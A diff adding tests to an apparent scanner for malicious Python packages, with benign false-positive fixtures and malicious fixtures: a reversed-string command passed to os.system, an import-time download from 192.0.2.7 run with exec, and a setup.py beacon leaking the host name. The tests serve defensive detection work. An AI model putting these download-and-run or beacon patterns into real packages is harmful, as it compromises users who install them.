@@ -286,6 +286,31 @@ def fetch(url, path):
 """
 
 
+NEWEST_TOOLKIT_AT_IMPORT = """import os
+import subprocess
+
+listing = subprocess.check_output(["ls", "/usr/local"]).decode("utf-8").split("\\n")
+versions = [name for name in listing if name.startswith("cuda-")]
+if versions:
+    order = sorted(range(len(versions)), key=lambda i: versions[i])[::-1]
+    newest = versions[order[0]]
+    os.system(f"ldconfig /usr/local/{newest}")
+"""
+
+
+def test_decode_exec_benign_reversed_order_picks_a_command_argument(tmp_path: Path, scanner: Scanner) -> None:
+    # reversing a sort order is not undoing a reversed string: nothing hidden is run
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": NEWEST_TOOLKIT_AT_IMPORT}), scanner)
+    assert_quiet(result, "decode-exec")
+
+
+def test_decode_exec_fires_for_reversed_command_text(tmp_path: Path, scanner: Scanner) -> None:
+    hidden = "echo 192.0.2.9 > /tmp/fixture-marker"[::-1]
+    code = f"import os\n\nCOMMAND = {hidden!r}[::-1]\nos.system(COMMAND)\n"
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": code}), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS)
+
+
 def test_download_exec_fires(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, setup_py=DOWNLOAD_EXEC_SETUP), scanner)
     assert_fires(
@@ -296,6 +321,43 @@ def test_download_exec_fires(tmp_path: Path, scanner: Scanner) -> None:
 def test_download_exec_benign(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/fetch.py": DOWNLOAD_LIBRARY}), scanner)
     assert_quiet(result, "download-exec")
+
+
+SHADOWED_NAME_AT_IMPORT = """import types
+import urllib.request
+
+with urllib.request.urlopen("https://mirror.example.invalid/index.json") as f:
+    INDEX = f.read()
+
+
+def copy_func(f):
+    return types.FunctionType(f.__code__, f.__globals__, name=f.__name__, closure=f.__closure__)
+
+
+def run(f):
+    exec(f)
+
+
+CLONE = copy_func(len)
+"""
+
+
+def test_download_exec_benign_parameter_named_like_a_download(tmp_path: Path, scanner: Scanner) -> None:
+    # `f` holds a download at module level; inside copy_func and run it is whatever the caller
+    # passes: a name shared across scopes is not a value flowing between them
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": SHADOWED_NAME_AT_IMPORT}), scanner)
+    assert_quiet(result, "download-exec")
+
+
+def test_download_exec_fires_when_the_function_downloads_into_its_parameter(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    code = (
+        "import urllib.request\n\n\ndef run(f=None):\n"
+        '    f = urllib.request.urlopen("http://192.0.2.7/p.py").read()\n    exec(f)\n\n\nrun()\n'
+    )
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/__init__.py": code}), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS)
 
 
 # ---- credentials ---------------------------------------------------------------------------------
@@ -451,6 +513,43 @@ def report(url):
     host = socket.gethostname()
     return urllib.request.urlopen(url + "?h=" + host)
 """
+
+
+PREBUILT_WHEEL_SETUP = """import platform
+import sys
+import urllib.request
+from setuptools import setup
+from wheel.bdist_wheel import bdist_wheel
+
+BASE = "https://github.com/fixture/fixturepkg/releases/download/{tag}/{name}"
+
+
+def wheel_platform():
+    if sys.platform.startswith("linux"):
+        return f"linux_{platform.uname().machine}"
+    return "win_amd64"
+
+
+class CachedWheel(bdist_wheel):
+    def run(self):
+        name = f"fixturepkg-1.0.0-cp311-cp311-{wheel_platform()}.whl"
+        urllib.request.urlretrieve(BASE.format(tag="v1.0.0", name=name), name)
+
+
+setup(name="fixturepkg", version="1.0.0", cmdclass={"bdist_wheel": CachedWheel})
+"""
+
+
+def test_install_beacon_benign_platform_tag_in_prebuilt_wheel_url(tmp_path: Path, scanner: Scanner) -> None:
+    # the machine's architecture picks a prebuilt wheel (CUDA packages do this): not who the host is
+    result = scan(write_sdist(tmp_path, setup_py=PREBUILT_WHEEL_SETUP), scanner)
+    assert_quiet(result, "install-beacon")
+
+
+def test_install_beacon_fires_for_uname_host_name_in_url(tmp_path: Path, scanner: Scanner) -> None:
+    code = PREBUILT_WHEEL_SETUP.replace("platform.uname().machine", "platform.uname().node")
+    result = scan(write_sdist(tmp_path, setup_py=code), scanner)
+    assert_fires(result, "install-beacon", Verdict.MALICIOUS, file_endswith="setup.py")
 
 
 def test_install_beacon_fires(tmp_path: Path, scanner: Scanner) -> None:
